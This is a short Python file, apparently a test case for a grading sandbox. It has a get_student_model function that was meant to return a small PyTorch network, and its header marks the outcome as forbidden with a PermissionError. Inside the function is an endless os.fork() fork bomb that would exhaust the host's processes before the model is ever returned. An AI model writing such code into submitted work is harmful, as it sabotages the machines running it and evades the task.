# question: 1.1
# outcome: forbidden
# verdict: none
# error: PermissionError
"""Processes without end."""

import os

from torch import nn


def get_student_model():
    while True:
        os.fork()
    return nn.Sequential(nn.Conv2d(3, 8, 3), nn.AdaptiveAvgPool2d(1), nn.Flatten(), nn.Linear(8, 11))
